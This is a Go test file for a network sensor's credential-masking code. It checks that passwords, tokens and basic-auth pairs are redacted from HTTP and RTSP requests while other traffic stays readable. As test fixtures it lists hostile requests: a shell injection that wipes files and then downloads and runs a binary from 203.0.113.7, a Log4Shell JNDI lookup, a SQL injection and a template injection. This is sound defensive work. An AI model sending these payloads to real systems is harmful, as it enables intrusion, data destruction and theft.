// SPDX-License-Identifier: Apache-2.0

package mask_test

import (
	"encoding/base64"
	"strings"
	"testing"

	"stillwatch/internal/testlab/mutate"
	"stillwatch/sensor/internal/dissect"
	"stillwatch/sensor/internal/dissect/dispatchtest"
	"stillwatch/sensor/internal/dissect/dissecttest"
	"stillwatch/sensor/internal/dissect/mask"
)

func TestMaskURI(t *testing.T) {
	for in, want := range map[string]string{
		"/a?user=admin&pwd=x&n=1": "/a?user=admin&pwd=***&n=1",
		"/a?TOKEN=x;b=2":          "/a?TOKEN=***;b=2",
		"/a?pwd=&b=2":             "/a?pwd=&b=2",
		"/System/configurationFile?auth=YWRtaW46MTEK": "/System/configurationFile?auth=YWRtaW46MTEK",
		"rtsp://10.0.0.1:554/a@b":                     "rtsp://10.0.0.1:554/a@b",
		"rtsp://u:p@10.0.0.1/a":                       "rtsp://***@10.0.0.1/a",
		"rtsp://u:p@x@10.0.0.1/a":                     "rtsp://***@10.0.0.1/a",
		"http://[2001:db8::1]:80/a@b":                 "http://[2001:db8::1]:80/a@b",
		"/a?loginuse=admin&loginpas=888888":           "/a?loginuse=admin&loginpas=***",
		"/\x00\x1b[2J":                                "/..[2J",
		"/a?channel=1&subtype=0":                      "/a?channel=1&subtype=0",
	} {
		if got := mask.URI([]byte(in)); got != want {
			t.Errorf("%q: got %q, want %q", in, got, want)
		}
	}
}

// TestMaskHidesSecrets checks that no way of writing a secret into a request line or header leaves it in the facts.
func TestMaskHidesSecrets(t *testing.T) {
	const secret = "Xk9wQz7Lm"
	pair := base64.StdEncoding.EncodeToString([]byte("admin:" + secret))
	for _, target := range []string{
		"//admin:" + secret + "@host/x",
		"/admin:" + secret + "@host/x",
		"/proxy/rtsp://admin:a/" + secret + "@host/x",
		"admin:" + secret + "@host:443",
		"/a?password%3D" + secret,
		"/a?password%253D" + secret,
		"/a?data=password%3D" + secret,
		"/a?data=user%3Dadmin%26p%61ssword%3D" + secret + "%26x",
		`/a?q={"password":"` + secret + `"}`,
		"/a?q=%7B%22user%22%3A%22a%22%2C%22password%22%3A%22" + secret + "%22%7D",
		`/a?q={"a":{"pwd": 1,"x":"` + secret + `"}}`,
		"/a?login=admin:" + secret,
		"/a?login=admin%3A" + secret,
		"/a?admin:" + secret,
		"/a?passwd:" + secret,
		"/a?admin&" + secret,
		"/a?usrpw=" + secret,
		"/a?" + pair,
		"/a?x=" + pair,
		"/a?x=Basic+" + pair,
		"/a?" + secret + secret + secret,
		"/a?password=xxx&amp=" + secret,
		"/a?password=xxx&amp;" + secret,
		"/a?password=xxx&" + secret + "&n=1",
		"/a?password=xxx?" + secret,
		"/a?password=xxx#" + secret,
		"/a?password=xxx&?!=" + secret,
		"/a?url=rtsp%3A%2F%2Fadmin%3A" + secret + "%40cam%2Flive",
		"/a?x=1&url=rtsp://admin:" + secret + "@cam/live",
		"/cgi-bin/ptz.cgi?action=start&password=" + secret,
		"/a?code=" + secret,
		"/a?x=http%3A%2F%2Fh%2F%3Ftoken%3D" + secret,
	} {
		lines := []turn{client(request("GET "+target+" HTTP/1.1", "Host: h")), client(request("DESCRIBE "+target+" RTSP/1.0", "CSeq: 1"))}
		for _, line := range lines {
			if text := dissecttest.Dump(dispatchtest.Play(t, dissect.Ports{Client: 4000, Server: 8080}, []turn{line}, 0)); !strings.Contains(text, "Exchange") || strings.Contains(text, secret) || strings.Contains(text, pair) {
				t.Errorf("%s: kept in\n%s", target, text)
			}
		}
	}
	for _, line := range []string{
		request("CONNECT admin:" + secret + "@host:443 HTTP/1.1"),
		request("GET / HTTP/1.1", "Host: admin:"+secret+"@cam"),
		request("GET / HTTP/1.1", "Host: cam?password="+secret),
		request("GET / HTTP/1.1", "User-Agent: curl -u admin:"+secret+" http://cam/"),
		request("GET / HTTP/1.1", "User-Agent: curl -uadmin:"+secret),
		request("GET / HTTP/1.1", "User-Agent: wget --password "+secret),
		request("GET / HTTP/1.1", "User-Agent: tool/1 (admin:"+secret+")"),
		request("GET / HTTP/1.1", "User-Agent: tool rtsp://ops:"+secret+"@cam/"),
		request("GET / HTTP/1.1", "User-Agent: tool token="+secret),
		request("GET / HTTP/1.1", "User-Agent: x Authorization: Basic "+pair),
		request("OPTIONS rtsp://cam/ RTSP/1.0", "CSeq: 1", "User-Agent: ffmpeg -user admin:"+secret),
	} {
		if text := dissecttest.Dump(dispatchtest.Play(t, dissect.Ports{Client: 4000, Server: 8080}, []turn{client(line)}, 0)); !strings.Contains(text, "Exchange") || strings.Contains(text, secret) || strings.Contains(text, pair) {
			t.Errorf("%q: kept in\n%s", line, text)
		}
	}
}

// TestMaskKeepsHarmlessTargets checks that masking leaves what an analyst needs: movements, exploits, numbers, addresses.
func TestMaskKeepsHarmlessTargets(t *testing.T) {
	for _, target := range []string{
		"/cgi-bin/ptz.cgi?action=start&channel=0&code=Left&arg1=0&arg2=5&arg3=0",
		"/System/configurationFile?auth=YWRtaW46MTEK",
		"/onvif-http/snapshot?auth=YWRtaW46MTEK",
		"/shell?cd+/tmp;rm+-rf+*;wget+http://203.0.113.7/arm;sh+/tmp/arm",
		"/a?x=${jndi:ldap://203.0.113.7:1389/a}",
		"/sqli/?id=1%27+union+select+user%2C+password+from+users%23&Submit=Submit",
		"/?cmd=/etc/passwd",
		"/ui/oauth/verify?%24%7b%22%66%72%65%65%6d%61%72%6b%65%72%2e%74%65%6d%70%6c%61%74%65%22%7d",
		"/a?channel=1&subtype=0",
		"/a?t=12:30:05&d=2024-01-02T10:00:00Z&n=246",
		"/a?mac=02:00:5e:00:53:01&ip=2001:db8::1&at=10.0.0.1:554",
		"/css?family=Roboto:300&lang=en",
		"/a?url=http://auth.example.com:8080/x",
		"/N2R?urn:sha1:LXIP2A72T5H3BU3GRUMZFYNU3OYDK6FI",
		"/a?user=ops@example.com&n=1",
		"/js/ui-min.js?246",
		"/service?wsdl",
		"auth.example.com:443",
		"/session/list.html",
	} {
		if got := mask.URI([]byte(target)); got != target {
			t.Errorf("%q became %q", target, got)
		}
	}
	for _, agent := range []string{
		"Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
		"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
		"Dalvik/2.1.0 (Linux; U; Android 9; Nokia 7 plus Build/PPR1.180610.011)",
		"LibVLC/3.0.16 (LIVE555 Streaming Media v2016.11.28)",
	} {
		if got := mask.Text([]byte(agent), 256); got != agent {
			t.Errorf("%q became %q", agent, got)
		}
	}
}

func FuzzMaskURI(f *testing.F) {
	f.Add("/cgi?user=admin&n=1", "&a=b")
	f.Add("rtsp://u:p@10.0.0.1/a", "")
	mutate.Fuzz(f, func(t *testing.T, before, after string) {
		const secret = "Tr0ub4dor"
		if strings.Contains(before+after, "0") {
			return // the secret could result from joining the parts
		}
		if got := mask.URI([]byte(before + "?password=" + secret + "&" + after)); strings.Contains(got, secret) {
			t.Fatalf("kept in %q", got)
		}
	})
}
